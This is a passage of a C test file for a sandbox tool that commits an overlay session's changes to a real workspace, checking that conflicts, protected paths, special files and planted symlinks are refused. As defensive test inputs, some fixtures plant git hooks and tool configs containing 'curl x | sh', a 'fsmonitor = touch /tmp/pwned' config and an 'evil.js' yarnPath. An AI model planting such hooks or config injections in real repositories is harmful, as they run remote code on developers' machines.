/* test_commit.c: applying a session's upper layer to the real workspace.
 *
 * Synthetic layers (as in test_changes.c) cover each rule: conflicts, protected paths,
 * special files, symlinks planted on either side, partial commits, the upper-layer cleanup,
 * dry runs. One test mounts a real overlayfs to get a genuine upper layer, commits it and
 * checks that the real directory then equals what the merged view showed. Needs root (to
 * make whiteouts and mount); skips otherwise.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "changes.h"
#include "commit.h"
#include "diffrender.h"
#include "fsutil.h"
#include "layer_fixture.h"
#include "must_work.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

/* ---- tree helpers ----------------------------------------------------------------------- */

static ws *ws_new(void)
{
    return ws_new_in("/tmp/pdk-test-commit-XXXXXX");
}

/* ---- commit helpers --------------------------------------------------------------------- */

static int64_t ctime_of(const char *path)
{
    struct stat st;
    if (lstat(path, &st) < 0)
        return -1;
    return (int64_t)st.st_ctim.tv_sec * 1000000000 + st.st_ctim.tv_nsec;
}

/* A baseline as paddock run makes one (the fine-grained clock now: everything that exists
 * has a ctime at or below it), after which these tests wait until the coarse clock file
 * timestamps use has passed it, so that every later change gets a ctime above it. */
static int64_t baseline_now(ws *w)
{
    (void)w;
    int64_t baseline = pdk_now_realtime_ns();
    for (;;) {
        struct timespec now;
        clock_gettime(CLOCK_REALTIME_COARSE, &now);
        if ((int64_t)now.tv_sec * 1000000000 + now.tv_nsec > baseline)
            return baseline;
        struct timespec nap = {0, 200000};
        nanosleep(&nap, NULL);
    }
}

static pdk_commit_request request(ws *w, int64_t baseline)
{
    ws_open(w);
    return (pdk_commit_request){
        .lower_dirfd = w->lower_fd,
        .upper_dirfd = w->upper_fd,
        .baseline_ns = baseline,
    };
}

static char *tree(const char *dir, bool files_only)
{
    pdk_buf b = {0};
    list_tree(dir, "", &b, files_only);
    return pdk_buf_steal(&b);
}

static void assert_trees_equal(const char *got_dir, const char *want_dir)
{
    _cleanup_free_ char *got = tree(got_dir, false);
    _cleanup_free_ char *want = tree(want_dir, false);
    if (strcmp(got, want) != 0)
        fail_msg("trees differ\n--- %s\n%s--- %s\n%s", got_dir, got, want_dir, want);
}

static size_t scan_count(ws *w)
{
    pdk_change_list l;
    scan(w, NULL, &l);
    size_t n = l.count;
    for (size_t i = 0; i < l.count; i++)
        print_message("#   left: %s %s\n", pdk_change_status_name(l.items[i].status),
                      l.items[i].path);
    pdk_change_list_free(&l);
    return n;
}

static const pdk_commit_refusal *refusal(const pdk_commit_result *r, const char *path)
{
    for (size_t i = 0; i < r->refused_count; i++)
        if (strcmp(r->refused[i].path, path) == 0)
            return &r->refused[i];
    return NULL;
}

static void assert_refused(const pdk_commit_result *r, const char *path, const char *why)
{
    const pdk_commit_refusal *f = refusal(r, path);
    if (!f) {
        fail_msg("\"%s\" was not refused", path);
        return;
    }
    if (!strstr(f->reason, why))
        fail_msg("\"%s\" refused for \"%s\", expected \"%s\"", path, f->reason, why);
}

static bool has_temp_files(const char *dir)
{
    _cleanup_free_ char *cmd = xasprintf("find '%s' -name '.paddock-commit.*' | grep -q .", dir);
    return run(cmd) == 0;
}

/* A bit of everything, as the sandbox would leave it. */
static void build_rich(ws *w)
{
    put(w->lower, "README", "line 1\nline 2\nline 3\n", 0644);
    put(w->lower, "script.sh", "#!/bin/sh\necho hi\n", 0644);
    put(w->lower, "tool", "#!/bin/sh\n", 0755);
    put(w->lower, "to-delete", "bye\n", 0644);
    sym(w->lower, "link", "README");
    put(w->lower, "file-to-link", "x\n", 0644);
    mkd(w->lower, "src", 0755);
    put(w->lower, "src/main.c", "int main(void) { return 0; }\n", 0644);
    mkd(w->lower, "old", 0755);
    put(w->lower, "old/a", "a\n", 0644);
    mkd(w->lower, "old/deeper", 0700);
    put(w->lower, "old/deeper/b", "b\n", 0600);
    put(w->lower, "file-to-dir", "f\n", 0644);
    mkd(w->lower, "dir-to-file", 0755);
    put(w->lower, "dir-to-file/x", "x\n", 0644);
    mkd(w->lower, "fresh", 0755);
    put(w->lower, "fresh/old-content", "old\n", 0644);
    put(w->lower, "fresh/kept", "same\n", 0644);
    mkd(w->lower, "modedir", 0755);
    put(w->lower, "modedir/f", "f\n", 0644);
    ws_snapshot(w);
}

static void change_rich(ws *w)
{
    o_put(w, "README", "line 1\nline two\nline 3\nline 4\n", 0644);
    o_put(w, "script.sh", "#!/bin/sh\necho hello\n", 0755);
    o_chmod(w, "tool", 0600);
    o_rm(w, "to-delete");
    o_sym(w, "link", "src/main.c");
    o_sym(w, "file-to-link", "README");
    o_put(w, "src/main.c", "int main(void) { return 1; }\n", 0644);
    o_mkdir(w, "new", 0750);
    o_mkdir(w, "new/nested", 0755);
    o_put(w, "new/nested/file.txt", "nested\n", 0640);
    o_put(w, "new/empty", "", 0644);
    o_sym(w, "new/dangling", "../nowhere");
    o_rm(w, "old");
    o_fresh_dir(w, "file-to-dir", 0755);
    o_put(w, "file-to-dir/inside", "i\n", 0644);
    o_rm(w, "dir-to-file");
    o_put(w, "dir-to-file", "now a file\n", 0644);
    o_fresh_dir(w, "fresh", 0755);
    o_put(w, "fresh/kept", "same\n", 0644);
    o_put(w, "fresh/new", "new\n", 0644);
    o_mkdir(w, "modedir", 0555); /* read-only directory: its files are written first */
}

/* ---- tests ---------------------------------------------------------------------------- */

static void t_commit_everything(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    build_rich(w);
    int64_t baseline = baseline_now(w);
    change_rich(w);

    pdk_commit_request req = request(w, baseline);
    pdk_commit_result res;
    pdk_error err = {0};
    if (pdk_commit_apply(&req, &res, &err) < 0)
        fail_msg("commit: %s", err.message);
    assert_int_equal(res.refused_count, 0);
    assert_trees_equal(w->lower, w->expect);
    assert_false(has_temp_files(w->lower));

    /* ctimes for the caller to record: what the real entries carry now; -1 for deletions. */
    assert_true(res.applied_count > 20);
    for (size_t i = 0; i < res.applied_count; i++) {
        const pdk_commit_entry *e = &res.applied[i];
        _cleanup_free_ char *p = at(w->lower, e->path);
        if (e->status == PDK_CHANGE_DELETED)
            assert_int_equal(e->ctime_ns, -1);
        else
            assert_true(e->ctime_ns == ctime_of(p));
    }
    pdk_commit_result_free(&res);

    /* Nothing left to review, and nothing but (empty, copied-up) directories in the upper. */
    assert_int_equal(scan_count(w), 0);
    _cleanup_free_ char *left = tree(w->upper, true);
    assert_string_equal(left, "");
    _cleanup_free_ char *fresh = at(w->upper, "fresh");
    char v[4];
    assert_true(lgetxattr(fresh, "user.overlay.opaque", v, sizeof(v)) < 0);
    ws_free(w);
}

static void t_conflicts(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "edited", "1\n", 0644);
    put(w->lower, "removed", "r\n", 0644);
    put(w->lower, "fine", "f\n", 0644);
    put(w->lower, "deleted-here", "d\n", 0644);
    int64_t baseline = baseline_now(w);
    put(w->upper, "edited", "session\n", 0644);
    set_origin(w->upper, "edited", w->lower, "edited");
    put(w->upper, "removed", "session\n", 0644);
    set_origin(w->upper, "removed", w->lower, "removed");
    put(w->upper, "created", "session\n", 0644);
    put(w->upper, "fine", "session\n", 0644);
    whiteout(w->upper, "deleted-here");

    /* Outside the sandbox, after the session began: */
    put(w->lower, "edited", "outside\n", 0644);
    _cleanup_free_ char *rp = at(w->lower, "removed");
    assert_int_equal(unlink(rp), 0);
    put(w->lower, "created", "outside\n", 0644);
    put(w->lower, "deleted-here", "changed outside\n", 0644);

    _cleanup_free_ char *lower_before = tree(w->lower, false);
    _cleanup_free_ char *upper_before = tree(w->upper, false);
    pdk_commit_request req = request(w, baseline);
    pdk_commit_result res;
    pdk_error err = {0};
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    assert_int_equal(res.refused_count, 4);
    assert_refused(&res, "edited", "changed in the workspace after the session began");
    assert_refused(&res, "removed", "deleted outside");
    assert_refused(&res, "created", "created in the workspace");
    assert_refused(&res, "deleted-here", "in the workspace after the session began");
    assert_null(refusal(&res, "fine"));
    assert_int_equal(res.applied_count, 0);
    assert_non_null(strstr(err.message, "nothing was committed"));
    assert_non_null(strstr(err.message, "\"edited\""));
    assert_non_null(strstr(err.message, "\"removed\""));
    assert_non_null(strstr(err.message, "\"created\""));
    pdk_commit_result_free(&res);
    /* Nothing written on either side. */
    _cleanup_free_ char *lower_after = tree(w->lower, false);
    _cleanup_free_ char *upper_after = tree(w->upper, false);
    assert_string_equal(lower_after, lower_before);
    assert_string_equal(upper_after, upper_before);

    /* Committing only the path without conflict works. */
    char *sel[] = {"fine", NULL};
    req.select = sel;
    assert_int_equal(pdk_commit_apply(&req, &res, &err), 0);
    assert_int_equal(res.applied_count, 1);
    pdk_commit_result_free(&res);
    char *content = NULL;
    _cleanup_free_ char *fp = at(w->lower, "fine");
    assert_int_equal(pdk_read_file_at(AT_FDCWD, fp, &content, NULL, 0), 0);
    assert_string_equal(content, "session\n");
    free(content);
    ws_free(w);
}

static void t_committed_paths(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    put(w->lower, "a", "1\n", 0644);
    int64_t baseline = baseline_now(w);
    put(w->upper, "a", "2\n", 0644);
    pdk_commit_request req = request(w, baseline);
    pdk_commit_result res;
    pdk_error err = {0};
    assert_int_equal(pdk_commit_apply(&req, &res, &err), 0);
    assert_int_equal(res.applied_count, 1);
    pdk_committed_path committed = {.path = xstrdup("a"), .ctime_ns = res.applied[0].ctime_ns};
    pdk_commit_result_free(&res);

    /* The session goes on and changes the file again. Our own commit is not a conflict... */
    put(w->upper, "a", "3\n", 0644);
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    assert_refused(&res, "a", "in the workspace after the session began");
    pdk_commit_result_free(&res);
    req.committed = &committed;
    req.committed_count = 1;
    if (pdk_commit_apply(&req, &res, &err) < 0)
        fail_msg("%s", err.message);
    committed.ctime_ns = res.applied[0].ctime_ns;
    pdk_commit_result_free(&res);

    /* ... but a change made outside after that is. */
    put(w->lower, "a", "outside\n", 0644);
    put(w->upper, "a", "4\n", 0644);
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    assert_refused(&res, "a", "in the workspace after the session began");
    pdk_commit_result_free(&res);
    free(committed.path);
    ws_free(w);
}

static void t_protected_and_special(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    mkd(w->lower, ".git", 0755);
    put(w->lower, ".git/config", "[core]\n", 0644);
    put(w->lower, "secret", "s\n", 0600);
    _cleanup_free_ char *lfifo = at(w->lower, "oldpipe");
    assert_int_equal(mkfifo(lfifo, 0644), 0);
    int64_t baseline = baseline_now(w);
    mkd(w->upper, ".git", 0755);
    put(w->upper, ".git/config", "[core]\n\thooksPath = /tmp/evil\n", 0644);
    put(w->upper, ".git/new", "x\n", 0644);
    put(w->upper, ".gitignore", "*.o\n", 0644); /* not beneath .git/ */
    put(w->upper, "secret", "changed\n", 0600);
    put(w->upper, "suid", "#!/bin/sh\n", 04755);
    _cleanup_free_ char *ufifo = at(w->upper, "pipe");
    assert_int_equal(mkfifo(ufifo, 0644), 0);
    whiteout(w->upper, "oldpipe"); /* deleting a special file is fine */

    char *protected_paths[] = {".git/", "secret", NULL};
    pdk_commit_request req = request(w, baseline);
    req.protected_paths = protected_paths;
    pdk_commit_result res;
    pdk_error err = {0};
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    assert_int_equal(res.refused_count, 5);
    assert_refused(&res, ".git/config", "protected");
    assert_refused(&res, ".git/new", "--include-protected");
    assert_refused(&res, "secret", "protected");
    assert_refused(&res, "pipe", "special file");
    assert_refused(&res, "suid", "set-user-ID");
    assert_null(refusal(&res, ".gitignore"));
    pdk_commit_result_free(&res);

    /* --include-protected lets the protected ones through, never the special files. */
    req.allow_protected = true;
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    assert_int_equal(res.refused_count, 2);
    pdk_commit_result_free(&res);
    char *sel[] = {".git", "secret", "oldpipe", ".gitignore", NULL};
    req.select = sel;
    if (pdk_commit_apply(&req, &res, &err) < 0)
        fail_msg("%s", err.message);
    assert_int_equal(res.applied_count, 5);
    pdk_commit_result_free(&res);
    assert_true(access(lfifo, F_OK) < 0);
    _cleanup_free_ char *cfg = at(w->lower, ".git/config");
    char *content = NULL;
    assert_int_equal(pdk_read_file_at(AT_FDCWD, cfg, &content, NULL, 0), 0);
    assert_non_null(strstr(content, "hooksPath"));
    free(content);
    ws_free(w);
}

/* Code that runs outside the sandbox later is refused wherever it lies: nested
 * repositories, submodules, a core.hooksPath the real configuration names, a bare
 * repository, agents' and tools' settings at any depth; directories that gain a set-id,
 * sticky or world-writable bit are refused even with --include-protected. */
static void t_protected_at_every_depth(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    mkd(w->lower, ".git", 0755);
    /* the real configuration names the hooks directory; the session's copy is not read */
    put(w->lower, ".git/config", "[core]\n\thooksPath = tools/hooks\n", 0644);
    mkd(w->lower, ".git/modules", 0755);
    mkd(w->lower, ".git/modules/m", 0755);
    put(w->lower, ".git/modules/m/config", "[core]\n", 0644);
    mkd(w->lower, "sub", 0755);
    mkd(w->lower, "sub/.git", 0755);
    put(w->lower, "sub/.git/config", "[core]\n", 0644);
    mkd(w->lower, "bare", 0755);
    put(w->lower, "bare/HEAD", "ref: refs/heads/main\n", 0644);
    mkd(w->lower, "tools", 0755);
    mkd(w->lower, "src", 0755);
    mkd(w->lower, "shared", 0755);
    mkd(w->lower, "drop", 01777);
    ws_snapshot(w);
    int64_t baseline = baseline_now(w);
    static const char *const refused[] = {
        "sub/.git/config",
        "sub/.git/hooks/pre-commit",
        "new/.git/config",
        ".git/modules/m/config",
        ".git/modules/m/hooks/post-checkout",
        ".claude/settings.local.json",
        "pkg/.mcp.json",
        "pkg/.claude/settings.json",
        "x/.envrc",
        ".gitmodules",
        ".husky/pre-commit",
        "pkg/.vscode/tasks.json",
        ".devcontainer/devcontainer.json",
        ".yarnrc.yml",
        ".cursor/mcp.json",
        ".gemini/settings.json",
        "tools/hooks/pre-push",
        "bare/config",
    };
    o_put(w, "sub/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n", 0644);
    o_mkdir(w, "sub/.git/hooks", 0755);
    o_put(w, "sub/.git/hooks/pre-commit", "#!/bin/sh\n", 0755);
    o_mkdir(w, "new", 0755);
    o_mkdir(w, "new/.git", 0755);
    o_put(w, "new/.git/config", "[core]\n\tfsmonitor = x\n", 0644);
    o_put(w, ".git/modules/m/config", "[core]\n\tfsmonitor = x\n", 0644);
    o_mkdir(w, ".git/modules/m/hooks", 0755);
    o_put(w, ".git/modules/m/hooks/post-checkout", "#!/bin/sh\n", 0755);
    o_put(w, ".git/config", "[core]\n\thooksPath = elsewhere\n", 0644);
    o_mkdir(w, ".claude", 0755);
    o_put(w, ".claude/settings.local.json", "{}\n", 0644);
    o_mkdir(w, "pkg", 0755);
    o_put(w, "pkg/.mcp.json", "{}\n", 0644);
    o_mkdir(w, "pkg/.claude", 0755);
    o_put(w, "pkg/.claude/settings.json", "{}\n", 0644);
    o_mkdir(w, "x", 0755);
    o_put(w, "x/.envrc", "curl x | sh\n", 0644);
    o_put(w, ".gitmodules", "[submodule \"m\"]\n", 0644);
    o_mkdir(w, ".husky", 0755);
    o_put(w, ".husky/pre-commit", "curl x | sh\n", 0755);
    o_mkdir(w, "pkg/.vscode", 0755);
    o_put(w, "pkg/.vscode/tasks.json", "{}\n", 0644);
    o_mkdir(w, ".devcontainer", 0755);
    o_put(w, ".devcontainer/devcontainer.json", "{}\n", 0644);
    o_put(w, ".yarnrc.yml", "yarnPath: evil.js\n", 0644);
    o_mkdir(w, ".cursor", 0755);
    o_put(w, ".cursor/mcp.json", "{}\n", 0644);
    o_mkdir(w, ".gemini", 0755);
    o_put(w, ".gemini/settings.json", "{}\n", 0644);
    o_mkdir(w, "tools/hooks", 0755);
    o_put(w, "tools/hooks/pre-push", "curl x | sh\n", 0755);
    o_put(w, "bare/config", "[core]\n\tfsmonitor = x\n", 0644);
    /* a .git file sends git to another directory; a .claude symlink to other settings */
    o_mkdir(w, "wt", 0755);
    o_put(w, "wt/.git", "gitdir: ../elsewhere\n", 0644);
    o_mkdir(w, "lnk", 0755);
    o_sym(w, "lnk/.claude", "../pkg/.claude");
    /* not protected: a config with no HEAD beside it, a file named like a hook dir */
    o_put(w, "src/config", "x\n", 0644);
    o_put(w, "src/hooks.md", "x\n", 0644);
    /* modes */
    mkd(w->upper, "shared", 02775);
    mkd(w->expect, "shared", 02775);
    o_mkdir(w, "open", 0777);
    mkd(w->upper, "drop", 0777); /* loses the sticky bit: adds nothing */
    mkd(w->expect, "drop", 0777);

    pdk_commit_request req = request(w, baseline);
    char *protected_paths[] = {".git/hooks/", ".git/config", NULL};
    req.protected_paths = protected_paths;
    pdk_commit_result res;
    pdk_error err = {0};
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    for (size_t i = 0; i < PDK_ARRAY_SIZE(refused); i++)
        assert_refused(&res, refused[i], "--include-protected");
    assert_refused(&res, "tools/hooks/pre-push", "core.hooksPath");
    assert_refused(&res, "bare/config", "HEAD");
    assert_refused(&res, "wt/.git", "protected");
    assert_refused(&res, "lnk/.claude", "protected");
    assert_refused(&res, ".git/config", "protected");
    assert_refused(&res, "shared", "mode 2775");
    assert_refused(&res, "open", "mode 777");
    assert_null(refusal(&res, "src/config"));
    assert_null(refusal(&res, "src/hooks.md"));
    assert_null(refusal(&res, "drop"));
    pdk_commit_result_free(&res);
    /* The session's copy of .git/config names another hooks directory: not believed. */
    req.allow_protected = true;
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    assert_int_equal(res.refused_count, 2);
    assert_refused(&res, "shared", "set-id, sticky or world-writable");
    assert_refused(&res, "open", "set-id, sticky or world-writable");
    pdk_commit_result_free(&res);
    _cleanup_free_ char *pwned = at(w->lower, "sub/.git/config");
    char *content = NULL;
    assert_int_equal(pdk_read_file_at(AT_FDCWD, pwned, &content, NULL, 0), 0);
    assert_null(strstr(content, "fsmonitor")); /* nothing was written */
    free(content);
    ws_free(w);
}

/* A hooksPath of a nested repository, and one a .git file's directory names. */
static void t_hooks_path_of_each_repository(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    mkd(w->lower, "a", 0755);
    mkd(w->lower, "a/.git", 0755);
    put(w->lower, "a/.git/config", "[core]\n\thooksPath = \"../shared hooks\"\n", 0644);
    mkd(w->lower, "gd", 0755);
    put(w->lower, "gd/config", "[core] hooksPath = hk\n", 0644);
    mkd(w->lower, "b", 0755);
    put(w->lower, "b/.git", "gitdir: ../gd\n", 0644);
    ws_snapshot(w);
    int64_t baseline = baseline_now(w);
    o_mkdir(w, "shared hooks", 0755);
    o_put(w, "shared hooks/pre-commit", "x\n", 0755);
    o_mkdir(w, "b/hk", 0755);
    o_put(w, "b/hk/post-merge", "x\n", 0755);
    o_put(w, "b/fine", "x\n", 0644);
    o_mkdir(w, "a/hk", 0755);
    o_put(w, "a/hk/not-a-hook", "x\n", 0644);
    pdk_commit_request req = request(w, baseline);
    pdk_commit_result res;
    pdk_error err = {0};
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    /* a's hooksPath, outside a's own tree: a has a change, so its configuration is read */
    assert_refused(&res, "shared hooks/pre-commit", "core.hooksPath");
    assert_refused(&res, "b/hk/post-merge", "core.hooksPath");
    assert_null(refusal(&res, "b/fine"));
    assert_null(refusal(&res, "a/hk/not-a-hook"));
    pdk_commit_result_free(&res);
    ws_free(w);
}

/* Temporary entries: in the session's directory when it shares the workspace's mount,
 * beside the target (O_TMPFILE, a journal) when not; what a killed commit left is removed
 * by the next. */
static void commit_with_session_dir(ws *w, const char *session_dir)
{
    put(w->lower, "mod", "old\n", 0644);
    put(w->lower, "to-dir", "file\n", 0644);
    put(w->lower, "to-link", "file\n", 0644);
    mkd(w->lower, "d", 0755);
    ws_snapshot(w);
    int64_t baseline = baseline_now(w);
    o_put(w, "mod", "new\n", 0644);
    o_put(w, "d/added", "added\n", 0600);
    o_sym(w, "to-link", "mod");
    o_rm(w, "to-dir");
    o_fresh_dir(w, "to-dir", 0750);
    o_put(w, "to-dir/in", "in\n", 0644);
    pdk_commit_request req = request(w, baseline);
    req.session_dir = session_dir;
    pdk_commit_result res;
    pdk_error err = {0};
    if (pdk_commit_apply(&req, &res, &err) < 0)
        fail_msg("commit: %s", err.message);
    pdk_commit_result_free(&res);
    assert_trees_equal(w->lower, w->expect);
    _cleanup_free_ char *leftovers =
        xasprintf("find '%s' '%s' -name '.paddock-commit.*' -o -name commit-tmp -o -name "
                  "commit-journal | grep -q .",
                  w->lower, session_dir);
    assert_int_not_equal(run(leftovers), 0);
}

static void t_temporaries_out_of_the_tree(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    _cleanup_free_ char *session_dir = at(w->root, "session");
    mkd(w->root, "session", 0700);
    commit_with_session_dir(w, session_dir);
    ws_free(w);

    /* on another mount (a tmpfs): beside the targets */
    w = ws_new();
    char shm[] = "/dev/shm/pdk-test-session-XXXXXX";
    if (!mkdtemp(shm))
        fail_msg("mkdtemp: %s", strerror(errno));
    commit_with_session_dir(w, shm);
    rm_rf(shm);
    ws_free(w);
}

static void t_recover_a_killed_commit(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    mkd(w->root, "session", 0700);
    mkd(w->root, "session/commit-tmp", 0700);
    put(w->root, "session/commit-tmp/3", "half a file", 0600);
    mkd(w->lower, "sub", 0755);
    put(w->lower, ".paddock-commit.4242.0", "half", 0600);
    put(w->lower, "sub/.paddock-commit.4242.7", "half", 0600);
    mkd(w->lower, "sub/.paddock-commit.4242.8", 0700);
    put(w->lower, ".paddock-commit.77.0", "another commit's, or the user's", 0644);
    put(w->lower, "keep", "k\n", 0644);
    static const char journal[] = "paddock commit temporary files 1\n4242\n\0sub\0gone\0";
    _cleanup_free_ char *jp = at(w->root, "session/commit-journal");
    int fd = open(jp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    assert_true(fd >= 0);
    assert_int_equal(pdk_write_all(fd, journal, sizeof(journal) - 1), 0);
    close(fd);
    ws_open(w);
    _cleanup_free_ char *session_dir = at(w->root, "session");
    pdk_error err = {0};
    assert_int_equal(pdk_commit_recover(w->lower_fd, session_dir, &err), 3);
    _cleanup_free_ char *left =
        xasprintf("cd '%s' && find . -name '.paddock-commit.*' | sort | tr '\\n' ' '", w->lower);
    _cleanup_free_ char *got = NULL;
    FILE *f = popen(left, "r");
    char line[512] = "";
    assert_non_null(f);
    if (!fgets(line, sizeof(line), f))
        line[0] = '\0';
    pclose(f);
    assert_string_equal(line, "./.paddock-commit.77.0 ");
    assert_true(access(jp, F_OK) < 0);
    _cleanup_free_ char *tmpdir = at(w->root, "session/commit-tmp");
    assert_true(access(tmpdir, F_OK) < 0);
    /* nothing left to do: 0 */
    assert_int_equal(pdk_commit_recover(w->lower_fd, session_dir, &err), 0);
    (void)got;
    ws_free(w);
}

static void t_partial_commit(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    mkd(w->lower, "src", 0755);
    put(w->lower, "src/a.c", "a\n", 0644);
    mkd(w->lower, "docs", 0755);
    put(w->lower, "docs/x.md", "x\n", 0644);
    mkd(w->lower, "op", 0755);
    put(w->lower, "op/a", "a\n", 0644);
    put(w->lower, "op/b", "b\n", 0644);
    ws_snapshot(w);
    int64_t baseline = baseline_now(w);
    o_put(w, "src/a.c", "A\n", 0644);
    o_put(w, "src/b.c", "B\n", 0644);
    o_put(w, "docs/x.md", "X\n", 0644);
    o_put(w, "top", "t\n", 0644);
    o_fresh_dir(w, "op", 0755);
    o_put(w, "op/new1", "1\n", 0644);
    o_put(w, "op/new2", "2\n", 0644);
    o_mkdir(w, "newdir", 0755);
    o_put(w, "newdir/f", "f\n", 0644);
    o_put(w, "newdir/g", "g\n", 0644);

    pdk_commit_request req = request(w, baseline);
    pdk_commit_result res;
    pdk_error err = {0};

    /* A path with no change is an error, before anything is written. */
    char *none[] = {"nothing-here", NULL};
    req.select = none;
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    assert_non_null(strstr(err.message, "\"nothing-here\": the session has no change"));
    pdk_commit_result_free(&res);

    /* A directory selects what is beneath; a file in a new directory brings the directory. */
    char *sel[] = {"src", "op/new1", "newdir/f", NULL};
    req.select = sel;
    if (pdk_commit_apply(&req, &res, &err) < 0)
        fail_msg("%s", err.message);
    assert_int_equal(res.applied_count, 5); /* src/a.c src/b.c op/new1 newdir newdir/f */
    pdk_commit_result_free(&res);

    pdk_change_list l;
    scan(w, NULL, &l);
    const char *left[] = {"docs/x.md", "newdir/g", "op/a", "op/b", "op/new2", "top"};
    for (size_t i = 0; i < l.count; i++)
        print_message("#   left: %s\n", l.items[i].path);
    assert_int_equal(l.count, PDK_ARRAY_SIZE(left));
    for (size_t i = 0; i < l.count; i++)
        assert_string_equal(l.items[i].path, left[i]);
    pdk_change_list_free(&l);
    /* Beneath the opaque op/ (committed in part) the committed file stays in the upper. */
    _cleanup_free_ char *kept = at(w->upper, "op/new1");
    assert_int_equal(access(kept, F_OK), 0);
    _cleanup_free_ char *gone = at(w->upper, "src/a.c");
    assert_true(access(gone, F_OK) < 0);

    /* The rest: then the real workspace is the merged view and the upper is empty. */
    req.select = NULL;
    if (pdk_commit_apply(&req, &res, &err) < 0)
        fail_msg("%s", err.message);
    pdk_commit_result_free(&res);
    assert_trees_equal(w->lower, w->expect);
    assert_int_equal(scan_count(w), 0);
    _cleanup_free_ char *rest = tree(w->upper, true);
    assert_string_equal(rest, "");
    /* The opaque directory, committed whole, went (it was empty). */
    _cleanup_free_ char *op = at(w->upper, "op");
    assert_true(access(op, F_OK) < 0);
    ws_free(w);
}

static void t_dry_run(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    build_rich(w);
    int64_t baseline = baseline_now(w);
    change_rich(w);
    _cleanup_free_ char *lower_before = tree(w->lower, false);
    _cleanup_free_ char *upper_before = tree(w->upper, false);
    pdk_commit_request req = request(w, baseline);
    req.dry_run = true;
    pdk_commit_result res;
    pdk_error err = {0};
    assert_int_equal(pdk_commit_apply(&req, &res, &err), 0);
    assert_true(res.dry_run);
    assert_true(res.applied_count > 20);
    for (size_t i = 0; i < res.applied_count; i++)
        assert_int_equal(res.applied[i].ctime_ns, -1);
    pdk_commit_result_free(&res);
    _cleanup_free_ char *lower_after = tree(w->lower, false);
    _cleanup_free_ char *upper_after = tree(w->upper, false);
    assert_string_equal(lower_after, lower_before);
    assert_string_equal(upper_after, upper_before);

    /* A dry run reports refusals the same way. */
    put(w->lower, "README", "outside\n", 0644);
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    assert_refused(&res, "README", "in the workspace after the session began");
    pdk_commit_result_free(&res);
    ws_free(w);
}

static void make_outside(ws *w, char **outside)
{
    *outside = at(w->root, "outside");
    assert_int_equal(mkdir(*outside, 0755), 0);
    put(*outside, "f", "outside\n", 0644);
}

static void assert_outside_untouched(const char *outside)
{
    _cleanup_free_ char *t = tree(outside, false);
    assert_string_equal(t, "f file 644 [outside\n]\n");
}

static void t_symlinks_planted_in_upper(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    _cleanup_free_ char *outside = NULL;
    make_outside(w, &outside);
    /* link: a real directory the sandbox replaced by a symlink to outside. link2: a real
     * symlink to outside that the sandbox replaced by a directory with a file in it. */
    mkd(w->lower, "link", 0755);
    put(w->lower, "link/a", "a\n", 0644);
    sym(w->lower, "link2", outside);
    int64_t baseline = baseline_now(w);
    sym(w->upper, "link", outside);
    sym(w->upper, "evil", outside);
    mkd(w->upper, "link2", 0755);
    set_opaque(w->upper, "link2");
    put(w->upper, "link2/f", "planted\n", 0644);
    put(w->upper, "link2/x", "x\n", 0644);

    pdk_commit_request req = request(w, baseline);
    pdk_commit_result res;
    pdk_error err = {0};
    if (pdk_commit_apply(&req, &res, &err) < 0)
        fail_msg("%s", err.message);
    pdk_commit_result_free(&res);
    assert_outside_untouched(outside);
    /* The symlinks are content: committed as symlinks, never followed. */
    _cleanup_free_ char *t = tree(w->lower, false);
    _cleanup_free_ char *want = xasprintf("evil symlink %s\nlink symlink %s\nlink2/ dir 755\n"
                                          "link2/f file 644 [planted\n]\nlink2/x file 644 [x\n]\n",
                                          outside, outside);
    assert_string_equal(t, want);
    ws_free(w);
}

static void t_workspace_symlink_before_commit(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    _cleanup_free_ char *outside = NULL;
    make_outside(w, &outside);
    mkd(w->lower, "d", 0755);
    put(w->lower, "d/f", "real\n", 0644);
    int64_t baseline = baseline_now(w);
    mkd(w->upper, "d", 0755);
    put(w->upper, "d/f", "session\n", 0644);
    put(w->upper, "d/new", "session\n", 0644);
    /* Outside: the real directory becomes a symlink out of the workspace. */
    _cleanup_free_ char *d = at(w->lower, "d");
    rm_rf(d);
    assert_int_equal(symlink(outside, d), 0);

    pdk_commit_request req = request(w, baseline);
    pdk_commit_result res;
    pdk_error err = {0};
    assert_int_equal(pdk_commit_apply(&req, &res, &err), -1);
    assert_refused(&res, "d", "in the workspace after the session began");
    pdk_commit_result_free(&res);
    assert_outside_untouched(outside);
    ws_free(w);
}

typedef struct swap_arg {
    const char *dir;    /* replace this real directory ... */
    const char *target; /* ... by a symlink to this */
    const char *touch;  /* or rewrite this real file */
} swap_arg;

static void swap_hook(void *p)
{
    swap_arg *a = p;
    if (a->dir) {
        rm_rf(a->dir);
